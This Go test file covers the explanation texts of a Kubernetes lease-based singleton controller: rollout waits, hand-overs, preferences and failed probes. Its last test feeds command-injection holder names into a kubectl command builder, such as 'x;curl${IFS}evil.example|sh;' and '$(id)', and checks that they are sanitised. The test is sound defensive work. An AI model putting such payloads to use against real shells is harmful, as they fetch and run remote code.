// SPDX-FileCopyrightText: The Metaparticle Authors
// SPDX-License-Identifier: Apache-2.0

package view

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/metaparticle-io/metaparticle/api"
)

const web = "singleton.deployment.web"

// talking returns the slot of the Deployment web. The pod "old" holds it by the hold h1. The arguments are the
// annotations of the slot's Lease, words of its next Lease, and further pods.
func talking(t *testing.T, annotations map[string]string, words string, pods ...*corev1.Pod) Slot {
	t.Helper()
	l := lease(web, "old", annotations)
	l.Spec.LeaseDurationSeconds = new(int32(15))
	if _, set := annotations[api.HoldAnnotation]; !set {
		metav1.SetMetaDataAnnotation(&l.ObjectMeta, api.HoldAnnotation, "h1")
	}
	next := lease(api.NextLease(web), "", map[string]string{api.WordsAnnotation: words})
	all := State{Leases: []*coordinationv1.Lease{l, next}, Pods: pods, Now: noon}.Slots([]string{web}, 1)
	require.Len(t, all, 1)
	return all[0]
}

// says returns a pod of the Deployment web with the agent's condition.
func says(name, reason, message string, change ...func(*corev1.Pod)) *corev1.Pod {
	return gated(name, web, append([]func(*corev1.Pod){func(p *corev1.Pod) {
		p.Status.Conditions = []corev1.PodCondition{{
			Type: api.ReadyCondition, Status: corev1.ConditionFalse, Reason: reason, Message: message,
			LastTransitionTime: metav1.Time{Time: noon.Add(-40 * time.Second)},
		}}
	}}, change...)...)
}

// with returns a change of a pod to these arguments of its agent, and to this zone.
func with(args api.RunArgs, zone string) func(*corev1.Pod) {
	return func(p *corev1.Pod) {
		p.Spec.InitContainers[0].Args = args.Args()
		p.Labels["zone"] = zone
	}
}

func ready(p *corev1.Pod) { p.Status.Conditions[0].Status = corev1.ConditionTrue }

func TestSlotSaysWhyItsNextMoveWaits(t *testing.T) {
	serves := noon.Add(-20 * time.Second).Format(time.RFC3339)
	rollout := func(more string) map[string]string {
		return map[string]string{api.ServingAnnotation: serves, api.RolloutAnnotation: `{"hold":"h1",` + more + `}`}
	}
	and := func(annotations map[string]string, key, value string) map[string]string {
		annotations[key] = value
		return annotations
	}
	wish := func(say, pod string) string { return say + ":" + pod + "_" + pod + "-uid:h1:u/5/x:1795435203000" }
	of := func(revision string) func(*corev1.Pod) {
		r, err := api.ParseRevision(revision)
		require.NoError(t, err)
		return with(api.RunArgs{Revision: r}, "")
	}
	waits := func(message string) *corev1.Pod { return says("new", api.ReasonWaitsForItsTurn, message, of("u/5/x")) }
	asks := says("new", reasonAsks, "asks old for turn 1 of revision 5")
	zoned := api.RunArgs{Settings: api.Settings{Prefer: api.Preference{Key: "zone", Value: "a"}}}
	preferred := says("b", "StandingBy", "a holder serves", ready, with(zoned, "a"))
	hung := says("old", reasonFails, "old holds", with(api.RunArgs{Settings: api.Settings{YieldAfter: time.Minute}}, ""))
	unserved := func(more string) map[string]string {
		return map[string]string{api.RolloutAnnotation: `{"hold":"h1","yields":"now"` + more + `}`}
	}
	for name, c := range map[string]struct {
		annotations map[string]string
		words       string
		pods        []*corev1.Pod
		want        string
	}{
		"nobody waits": {annotations: rollout(`"yields":"now"`), pods: []*corev1.Pod{says("b", "StandingBy", "a holder serves", ready)}},
		"holder serves for a moment": {
			annotations: rollout(`"yields":"later"`), pods: []*corev1.Pod{waits("x")},
			want: "The rollout waits: old has served since 2026-11-23T11:59:40Z; the slot has moved for a wish before, so it yields after a minute of service, at 2026-11-23T12:00:40Z. There is nothing to do.",
		},
		"holder serves for a moment, and the image is missing": {
			annotations: rollout(`"yields":"later"`), pods: []*corev1.Pod{says("new", api.ReasonWaitsForItsTurn, "x", of("u/5/x"), func(p *corev1.Pod) {
				p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "app", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ImagePullBackOff"}}}}
			})},
			want: "The rollout waits for new (WaitsForItsTurn: x; its container app does not run: ImagePullBackOff).",
		},
		"paused": {
			annotations: and(rollout(`"yields":"no"`), api.PausedAnnotation, "hold"), pods: []*corev1.Pod{waits("x")},
			want: "The rollout waits: singleton.deployment.web is paused by hand, so old does not yield. To end that: kubectl metaparticle resume -n shop singleton.deployment.web",
		},
		"a turn": {
			annotations: rollout(`"yields":"later","yielder":"first_u","from":"u/4/y"`), pods: []*corev1.Pod{waits("x")},
			want: "The rollout waits: old has had its turn since 2026-11-23T11:00:00Z. Its revision is proven once the application has served for 10s and the workload's minReadySeconds; " +
				"if it fails, first gets the slot back. If it does not serve, read its log: kubectl logs -n shop old",
		},
		"a turn, and nobody waits": {
			annotations: rollout(`"yields":"now","yielder":"first_u","from":"u/4/y"`),
			want: "The rollout waits: old has had its turn since 2026-11-23T11:00:00Z. Its revision is proven once the application has served for 10s and the workload's minReadySeconds; " +
				"if it fails, first gets the slot back. If it does not serve, read its log: kubectl logs -n shop old",
		},
		"a turn that will be proven": {
			annotations: rollout(`"yields":"later","yielder":"first_u","from":"u/4/y"`), pods: []*corev1.Pod{says("old", "InItsTurn", "x", with(api.RunArgs{MinReady: 30 * time.Second}, ""))},
			want: "The rollout waits: old has had its turn since 2026-11-23T11:00:00Z. Its revision is proven once the application has served for 10s and the workload's minReadySeconds, at 2026-11-23T12:00:20Z; " +
				"if it fails, first gets the slot back. If it does not serve, read its log: kubectl logs -n shop old",
		},
		"a turn failed": {
			annotations: rollout(`"yields":"later","turns":[{"revision":"u/4/y","count":1},{"revision":"u/5/x","count":1,"next":"2026-11-23T12:31:00Z"}]`), pods: []*corev1.Pod{waits("x")},
			want: "The rollout waits: turn 2 of revision 5 comes at 2026-11-23T12:31:00Z, because turn 1 failed. A newer version, or kubectl rollout undo, need not wait. " +
				"Read the log of that turn, with --previous if the container has restarted since: kubectl logs -n shop new",
		},
		"a turn of another pod failed": {
			annotations: rollout(`"yields":"later","moved":{"from":"new2_new2-uid","why":"TurnFailed"},"turns":[{"revision":"u/5/x","count":1,"next":"2026-11-23T12:31:00Z"}]`),
			pods:        []*corev1.Pod{waits("x"), says("new2", api.ReasonWaitsForItsTurn, "x", of("u/5/x")), says("new3", api.ReasonWaitsForItsTurn, "x", of("u/5/x"))},
			want: "The rollout waits: turn 2 of revision 5 comes at 2026-11-23T12:31:00Z, because turn 1 failed. A newer version, or kubectl rollout undo, need not wait. " +
				"Read the log of that turn, with --previous if the container has restarted since: kubectl logs -n shop new2",
		},
		"a turn failed, and a newer revision waits": {
			annotations: rollout(`"yields":"later","moved":{"from":"new_new-uid","why":"TurnFailed"},"turns":[{"revision":"u/5/x","count":2,"next":"2026-11-23T12:31:00Z"}]`),
			pods:        []*corev1.Pod{waits("x"), says("newer", api.ReasonWaitsForItsTurn, "x", of("u/6/z"))},
			want:        "The rollout waits: old has served since 2026-11-23T11:59:40Z; the slot has moved for a wish before, so it yields after a minute of service, at 2026-11-23T12:00:40Z. There is nothing to do.",
		},
		"a start lock": {
			annotations: rollout(`"yields":"now"`), pods: []*corev1.Pod{waits("start-lock.db is paused, so revision 5 does not ask yet")},
			want: "The rollout waits for new (WaitsForItsTurn: start-lock.db is paused, so revision 5 does not ask yet). Look at that lock: kubectl metaparticle status -v -n shop start-lock.db",
		},
		"a wish": {
			annotations: rollout(`"yields":"now"`), words: wish("newer", "new"), pods: []*corev1.Pod{asks},
			want: "new has wished for its turn since 2026-11-23T12:00:03Z. old announces its end to that pod, and goes on without an answer; the next announcement then comes within 5 min. " +
				"If it stays so, look at new (AsksForItsTurn: asks old for turn 1 of revision 5).",
		},
		"a wish, and the application began anew": {
			annotations: rollout(`"yields":"later"`), words: wish("newer", "new"), pods: []*corev1.Pod{asks},
			want: "The rollout waits: old has served since 2026-11-23T11:59:40Z; the slot has moved for a wish before, so it yields after a minute of service, at 2026-11-23T12:00:40Z. There is nothing to do.",
		},
		"the wish of a pod that is gone": {
			annotations: rollout(`"yields":"now"`), words: wish("newer", "dead"),
			want: "dead has wished for its turn since 2026-11-23T12:00:03Z. old announces its end to that pod, and goes on without an answer; the next announcement then comes within 5 min. " +
				"If it stays so, look at dead (which is gone, or does not claim the slot).",
		},
		"a wish of an earlier hold": {annotations: rollout(`"yields":"now"`), words: strings.Replace(wish("newer", "new"), ":h1:", ":h0:", 1)},
		"the old revision wishes back": {
			annotations: rollout(`"yields":"now"`), words: wish("back", "a"), pods: []*corev1.Pod{says("a", "HolderNotServing", "x")},
			want: "a has wished to have the slot back since 2026-11-23T12:00:03Z. old gives it back only if its application does not begin to serve in time: look at old.",
		},
		"an announcement without an answer": {
			annotations: and(rollout(`"yields":"now"`), api.LeavingAnnotation, "h1.7 soon:new_new-uid"), words: wish("newer", "new") + " takes:b_b-uid:h1.6", pods: []*corev1.Pod{asks},
			want: "old has announced its end to new, and goes on unless that pod answers. Answers: nobody has answered yet. If it stays so, look at new (AsksForItsTurn: asks old for turn 1 of revision 5).",
		},
		"an announcement that others answer": {
			annotations: and(rollout(`"yields":"now"`), api.LeavingAnnotation, "h1.7 soon:new_new-uid"), words: "takes:b_b-uid:h1.7 stays:new_new-uid:h1.7", pods: []*corev1.Pod{asks},
			want: "old has announced its end to new, and goes on unless that pod answers. Answers: b (can take the slot), new (stays Ready). If it stays so, look at new (AsksForItsTurn: asks old for turn 1 of revision 5).",
		},
		"an announcement with an answer": {
			annotations: and(rollout(`"yields":"now"`), api.LeavingAnnotation, "h1.7 soon:new_new-uid"), words: "takes:new_new-uid:h1.7", pods: []*corev1.Pod{asks},
			want: "old leaves, and new follows. Answers: new (can take the slot). Its application has its pod's grace to stop, so there is nothing to do.",
		},
		"all are asked": {
			annotations: and(rollout(`"yields":"now"`), api.LeavingAnnotation, "h1.7 soon"),
			want:        "old has told all pods that it leaves. Answers: nobody has answered yet. It waits for seconds at most, so there is nothing to do.",
		},
		"all are asked, and some answer": {
			annotations: and(rollout(`"yields":"now"`), api.LeavingAnnotation, "h1.7 soon"), words: "stays:b_b-uid:h1.7 either:c_c-uid:h1.7",
			want: "old leaves. Answers: b (stays Ready), c (can take the slot, or stay Ready). Its application has its pod's grace to stop, so there is nothing to do.",
		},
		"a successor": {
			annotations: and(rollout(`"yields":"now"`), api.LeavingAnnotation, "h1.7 new_new-uid"), words: "prepared:new_new-uid:h1.7", pods: []*corev1.Pod{asks},
			want: "old leaves, and new follows. Answers: new (is prepared). Its application has its pod's grace to stop, so there is nothing to do.",
		},
		"the announcement of an earlier hold": {annotations: and(rollout(`"yields":"now"`), api.LeavingAnnotation, "h0.7 soon")},
		"the application fails its probe": {
			annotations: unserved(""), pods: []*corev1.Pod{hung},
			want: "old has failed its readiness probe since 2026-11-23T11:59:20Z. If its application has served in this hold, it hands over from 2026-11-23T12:00:20Z on, to a standby that answers. " +
				"Read its log: kubectl logs -n shop old",
		},
		"it fails its probe, and is paused": {
			annotations: and(unserved(""), api.PausedAnnotation, "hold"), pods: []*corev1.Pod{hung},
			want: "old has failed its readiness probe since 2026-11-23T11:59:20Z, and keeps the slot, because singleton.deployment.web is paused by hand. " +
				"To end that: kubectl metaparticle resume -n shop singleton.deployment.web",
		},
		"applications have hung": {
			annotations: unserved(`,"hangs":6,"hung":"c_c-uid"`), pods: []*corev1.Pod{hung},
			want: "old has failed its readiness probe since 2026-11-23T11:59:20Z. If its application has served in this hold, it hands over from 2026-11-23T12:00:20Z on, to a standby that answers. " +
				"After 6 such hand-overs a hold lasts for 1h0m0s at least. Read its log: kubectl logs -n shop old",
		},
		"nobody has answered for long": {
			annotations: unserved(""), pods: []*corev1.Pod{says("old", reasonFails, "old holds", with(api.RunArgs{Settings: api.Settings{YieldAfter: 10 * time.Second}}, ""))},
			want: "old has failed its readiness probe since 2026-11-23T11:59:20Z. If its application has served in this hold, it hands over now, to a standby that answers. Read its log: kubectl logs -n shop old",
		},
		"the application has never served": {
			annotations: unserved(`,"hangs":6,"hung":"c_c-uid"`), pods: []*corev1.Pod{says("old", reasonFails, "old holds; its application "+api.NotServedYet, with(api.RunArgs{Settings: api.Settings{YieldAfter: 10 * time.Second}}, ""))},
			want: "old keeps the slot, because its application has not served in this hold, and may still start: read its log (kubectl logs -n shop old). " +
				"To move the slot by hand: kubectl metaparticle yield -n shop singleton.deployment.web",
		},
		"a preference moved the slot to it": {
			annotations: unserved(`,"moved":{"from":"c_c-uid","why":"Yielded","wish":"preferred"}`), pods: []*corev1.Pod{says("old", reasonFails, "old holds; its application "+api.NotServedYet, with(api.RunArgs{Settings: api.Settings{YieldAfter: time.Minute}}, ""))},
			want: "old got the slot because it is preferred, and its application has not served since. If it does not in a minute, or in what its probes allow, old hands over to a standby that answers. " +
				"Read its log: kubectl logs -n shop old",
		},
		"it took the slot back after its hang": {
			annotations: unserved(`,"hangs":1,"hung":"old_old-uid"`), pods: []*corev1.Pod{says("old", reasonFails, "old holds; its application "+api.NotServedYet, with(api.RunArgs{Settings: api.Settings{YieldAfter: time.Minute}}, ""))},
			want: "old got the slot because it is preferred, and its application has not served since. If it does not in a minute, or in what its probes allow, old hands over to a standby that answers. " +
				"Read its log: kubectl logs -n shop old",
		},
		"it fails its probe, and may": {annotations: unserved(""), pods: []*corev1.Pod{says("old", reasonFails, "old holds")}},
		"preferred": {
			annotations: rollout(`"yields":"later"`), pods: []*corev1.Pod{preferred, says("old", "Holding", "x", with(zoned, "b"))},
			want: "b is preferred: it gets the slot once old has served for 5 min, at 2026-11-23T12:04:40Z, and it has been Ready for 5 min, at 2026-11-23T12:04:20Z. There is nothing to do.",
		},
		"preferred, and wishes": {
			annotations: rollout(`"yields":"now","prefers":true`), words: wish("preferred", "b"), pods: []*corev1.Pod{preferred},
			want: "b is preferred, and has wished for the slot since 2026-11-23T12:00:03Z. old announces its end to that pod, and goes on without an answer; the next announcement then comes within 5 min. " +
				"If it stays so, look at b (StandingBy: a holder serves).",
		},
		"preferred, and has hung": {
			annotations: rollout(`"yields":"now","hung":"b_b-uid"`), pods: []*corev1.Pod{preferred},
			want: "b is preferred, but its application hung or ended by itself, so it does not wish for the slot until an application has served for 10m0s, at 2026-11-23T12:09:50Z at the earliest, " +
				"and each such failure doubles the 5 min for which it must be Ready. Read its log: kubectl logs -n shop b --previous",
		},
		"preferred, and has crashed": {
			annotations: rollout(`"yields":"now","hung":"b_b-uid","moved":{"from":"b_b-uid","why":"Ended"}`), pods: []*corev1.Pod{preferred},
			want: "b is preferred, but its application failed (Ended), so it does not wish for the slot until an application has served for 10m0s, at 2026-11-23T12:09:50Z at the earliest, " +
				"and each such failure doubles the 5 min for which it must be Ready. Read its log: kubectl logs -n shop b --previous",
		},
		"preferred, and waits for longer": {
			annotations: and(rollout(`"yields":"now","prefers":true`), api.ServingAnnotation, noon.Add(-time.Hour).Format(time.RFC3339)),
			pods: []*corev1.Pod{says("b", "StandingBy", "a holder serves", ready, with(zoned, "a"), func(p *corev1.Pod) {
				p.Status.Conditions[0].LastTransitionTime = metav1.Time{Time: noon.Add(-time.Hour)}
			})},
			want: "b is preferred, and does not wish for the slot yet: each failure of its application doubles the 5 min for which it must be Ready. If it stays so, look at b (StandingBy: a holder serves).",
		},
		"preferred during a rollout": {
			annotations: and(rollout(`"yields":"now","turns":[{"revision":"u/5/x","count":1}]`), api.RevisionAnnotation, "u/4/y"), pods: []*corev1.Pod{preferred},
			want: "b is preferred, but a rollout has begun, and no preference moves the slot before it is over: revision 5 has had a turn.",
		},
		"both preferred":           {annotations: rollout(`"yields":"now"`), pods: []*corev1.Pod{preferred, says("old", "Holding", "x", with(zoned, "a"))}},
		"a record of another hold": {annotations: map[string]string{api.RolloutAnnotation: `{"hold":"h0","yields":"later"}`}, pods: []*corev1.Pod{waits("x")}},
		"an outdated record":       {annotations: rollout(`"yields":"later","transitions":3`), pods: []*corev1.Pod{waits("x")}},
		"no record":                {annotations: map[string]string{api.RolloutAnnotation: "{"}, pods: []*corev1.Pod{waits("x")}},
	} {
		t.Run(name, func(t *testing.T) {
			assert.Equal(t, c.want, strings.Join(talking(t, c.annotations, c.words, c.pods...).Why, "\n"))
		})
	}
}

// What a rollout waits for is data, too, for the table of slots.
func TestSlotSaysWhatItsRolloutWaitsFor(t *testing.T) {
	serves := func(rollout string, ago time.Duration) map[string]string {
		return map[string]string{api.ServingAnnotation: noon.Add(-ago).Format(time.RFC3339), api.RolloutAnnotation: `{"hold":"h1",` + rollout + `}`}
	}
	revision, err := api.ParseRevision("u/5/x")
	require.NoError(t, err)
	waits := says("new", api.ReasonWaitsForItsTurn, "x", with(api.RunArgs{Revision: revision}, ""))
	for name, c := range map[string]struct {
		annotations map[string]string
		want        *Wait
	}{
		"a minute of service":        {serves(`"yields":"later"`, 20*time.Second), &Wait{For: "Service", Until: new(noon.Add(40 * time.Second))}},
		"the proof":                  {serves(`"yields":"later","yielder":"a_u"`, 3*time.Second), &Wait{For: "Turn", Until: new(noon.Add(7 * time.Second))}},
		"an application that starts": {map[string]string{api.RolloutAnnotation: `{"hold":"h1","yields":"now","yielder":"a_u"}`}, &Wait{For: "Turn"}},
		"the next turn":              {serves(`"yields":"now","turns":[{"revision":"u/5/x","count":1,"next":"2026-11-23T12:31:00Z"}]`, time.Hour), &Wait{For: "NextTurn", Until: new(noon.Add(31 * time.Minute))}},
		"a pod that has not started": {serves(`"yields":"now"`, time.Hour), nil},
	} {
		t.Run(name, func(t *testing.T) { assert.Equal(t, c.want, talking(t, c.annotations, "", waits).Waits) })
	}
}

func TestHolderWithoutOtherPodsDoesNotHandOver(t *testing.T) {
	l, next := lease(web, "old", map[string]string{api.HoldAnnotation: "h1"}), lease(api.NextLease(web), "", map[string]string{api.AloneAnnotation: api.AloneTrue})
	pods := []*corev1.Pod{says("old", reasonFails, "x", with(api.RunArgs{Settings: api.Settings{YieldAfter: time.Minute}}, ""))}
	got := State{Leases: []*coordinationv1.Lease{l, next}, Pods: pods, Now: noon}.Slots([]string{web}, 1)[0].Why
	assert.Equal(t, []string{"old has failed its readiness probe since 2026-11-23T11:59:20Z, and keeps the slot, because no other pod claims it: read its log, or add a replica."}, got)
}

func TestSlotHasWhatPodsSayAsData(t *testing.T) {
	s := talking(t, map[string]string{
		api.LeavingAnnotation: "h1.7 soon:new_new-uid",
		api.RolloutAnnotation: `{"hold":"h1","yields":"now","moved":{"from":"first_first-uid","why":"Yielded","wish":"newer"}}`,
	}, "newer:new_new-uid:h1:u/5/x:1795435203000 takes:new2_u:h1.7 stays:b_b-uid:h1.6")
	text, err := json.Marshal(map[string]any{"talk": s.Talk, "moved": s.Moved})
	require.NoError(t, err)
	assert.JSONEq(t, `{"moved": {"from": "first", "reason": "Yielded", "wish": "newer"}, "talk": {
		"wishes": [{"pod": "new", "say": "newer", "since": "2026-11-23T12:00:03Z"}], "leaves": true, "asks": "new", "answers": [{"pod": "new2", "say": "takes"}]}}`, string(text))
	assert.Equal(t, "first (Yielded to a newer revision)", s.Moved.String())

	free := lease(web, "", map[string]string{api.RolloutAnnotation: `{"moved":{"from":"first_first-uid","why":"Ended"}}`, api.LeavingAnnotation: "h1.7 soon"})
	s = State{Leases: []*coordinationv1.Lease{free}}.Slots([]string{web}, 1)[0]
	assert.Equal(t, "first (its application ended)", s.Moved.String())
	assert.Nil(t, s.Talk)
}

// An application ends by itself, or with its pod. Only the Event of the release tells which.
func TestEventTellsWhyApplicationEnded(t *testing.T) {
	moved := func(why, from string) string {
		l := lease(web, "a", map[string]string{api.RolloutAnnotation: `{"moved":{"from":"` + from + `_u","why":"` + why + `"}}`})
		events := []*corev1.Event{event(9, "z", api.ReasonReleased, web+" is free again: exit code 1"), event(9, "a", api.ReasonAcquired, "this pod holds "+web+" (token 2)")}
		return State{Leases: []*coordinationv1.Lease{l}, Events: events, Now: noon}.Slots([]string{web}, 1)[0].Moved.String()
	}
	assert.Equal(t, "z (exit code 1)", moved("Ended", "z"))
	assert.Equal(t, "y (its application ended)", moved("Ended", "y"), "the Events are about another release")
	assert.Equal(t, "z (Hung)", moved("Hung", "z"))
}

// A tenant can write any text into the Leases of its slots.
func TestForgedTalkIsShort(t *testing.T) {
	huge := strings.Repeat("x", 1<<18)
	for name, words := range map[string]string{
		"a huge word": "newer:" + huge + ":h1:u/5/x:1", "many words": strings.Repeat("newer:a:h1:u/5/x:1 ", 10000),
		"a long identity": "newer:" + huge[:3000] + ":h1:u/5/x:1",
	} {
		t.Run(name, func(t *testing.T) {
			s := talking(t, map[string]string{api.RolloutAnnotation: `{"hold":"h1","yields":"now","moved":{"from":"` + huge + `"}}`, api.LeavingAnnotation: "h1." + huge + " soon:" + huge}, words)
			text, err := json.Marshal([]any{s.Talk, s.Moved, s.Why})
			require.NoError(t, err)
			assert.Less(t, len(text), 16<<10)
		})
	}
}

// Whoever may write a Lease can write any holder, and people paste these commands into a shell.
func TestCommandsNameOnlyWhatCanBeAPod(t *testing.T) {
	c := conversation{Slot: &Slot{Namespace: "shop"}}
	assert.Equal(t, "kubectl logs -n shop web-1.a", c.logs("web-1.a"))
	for _, holder := range []string{"x;curl${IFS}evil.example|sh;", "-o", "", "$(id)", "a b"} {
		assert.Equal(t, "kubectl logs -n shop POD", c.logs(holder))
	}
	assert.Empty(t, c.lock("start.a;id waits"))
}
